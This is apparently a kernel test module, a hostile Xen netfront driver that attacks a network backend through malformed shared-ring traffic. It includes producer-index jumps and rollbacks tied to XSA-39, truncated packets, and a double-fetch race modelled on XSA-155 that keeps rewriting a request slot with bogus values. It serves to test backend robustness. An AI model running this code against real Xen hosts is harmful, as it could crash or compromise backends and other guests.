// SPDX-License-Identifier: GPL-2.0
/*
 * xen-netfront-hostile: lies told with the rings' indices and slots. A
 * producer index a ring ahead or behind, a packet whose end never gets
 * published, and a request rewritten while the backend reads it (a
 * backend that reads a slot twice checks one value and uses another).
 */
#include <linux/jiffies.h>
#include <linux/kthread.h>
#include <linux/sched.h>

#include "hostile.h"

#define HOSTILE_WAIT_MS		2000

/* Slot contents the double-fetch loop flips between. */
#define HOSTILE_BAD_GREF	0x0ffffff0U

static void hostile_honest(struct hostile *h, unsigned int n)
{
	while (n--)
		hostile_tx_frame(h);
	hostile_tx_push(h);
	hostile_tx_wait(h, HOSTILE_WAIT_MS);
}

/* XSA-39: more requests than the ring holds. */
int hostile_prod_jump(struct hostile *h)
{
	hostile_honest(h, 1);
	hostile_set_req_prod(&h->tx, h->tx_prod + h->tx.size + 17);
	hostile_kick(h);
	return 0;
}

/* XSA-39: the producer index moves back behind what was answered. */
int hostile_prod_back(struct hostile *h)
{
	hostile_honest(h, 4);
	hostile_set_req_prod(&h->tx, h->tx_prod - 3);
	hostile_kick(h);
	return 0;
}

/* The same lie on the RX ring; noticed when a packet comes for us. */
int hostile_rx_prod_jump(struct hostile *h)
{
	h->rx_frozen = true;
	hostile_set_req_prod(&h->rx, h->rx_prod + h->rx.size + 9);
	hostile_kick(h);
	return 0;
}

/* The first slot of a three-slot packet, and nothing after it, ever. */
int hostile_truncated(struct hostile *h)
{
	hostile_honest(h, 1);
	hostile_tx_put(h, h->tx_ref[0], 0, XEN_NETTXF_more_data, 180);
	hostile_tx_push(h);
	return 0;
}

/*
 * XSA-155: publish an honest frame, then keep rewriting its slot between
 * the honest request and one that is wrong in every field until the
 * backend answers it, packet after packet, for attack_ms. Whatever the
 * backend saw, it must act on one copy: send the packet, or refuse it.
 */
static const struct xen_netif_tx_request hostile_evil = {
	.gref = HOSTILE_BAD_GREF,
	.offset = 4000,
	.flags = XEN_NETTXF_more_data | XEN_NETTXF_extra_info,
	.size = 0xffff,
};

static bool hostile_flip(struct hostile *h, u32 idx,
			 const struct xen_netif_tx_request *good)
{
	struct xen_netif_tx_request *slot = xnif_ring_req(&h->tx, idx);
	unsigned int i;

	for (i = 0; i < 4096; i++) {
		WRITE_ONCE(slot->size, i & 1 ? hostile_evil.size : good->size);
		WRITE_ONCE(slot->offset, i & 1 ? hostile_evil.offset : 0);
		WRITE_ONCE(slot->flags, i & 1 ? hostile_evil.flags : 0);
		WRITE_ONCE(slot->gref, i & 1 ? hostile_evil.gref : good->gref);
		if ((u32)(READ_ONCE(*h->tx.rsp.prod) - idx) - 1 < h->tx.size)
			return true;
	}
	return false;
}

int hostile_double_fetch(struct hostile *h)
{
	unsigned long end = jiffies + msecs_to_jiffies(hostile_attack_ms);
	struct xen_netif_tx_request good = {
		.gref = h->tx_ref[0],
		.size = HOSTILE_FRAME_LEN,
	};
	unsigned int sent = 0, answered = 0;

	hostile_honest(h, 1);
	while (time_before(jiffies, end) && !kthread_should_stop() &&
	       h->tx_prod - h->tx_cons < h->tx.size - 1) {
		u32 idx = h->tx_prod;

		good.id = idx & 0xffff;
		hostile_tx_put_req(h, &good);
		hostile_tx_push(h);
		sent++;
		answered += hostile_flip(h, idx, &good);
		hostile_tx_reap(h);
		cond_resched();
	}
	pr_warn("%s: double_fetch: %u packets rewritten, %u answered while rewriting\n",
		h->dev->nodename, sent, answered);
	return 0;
}
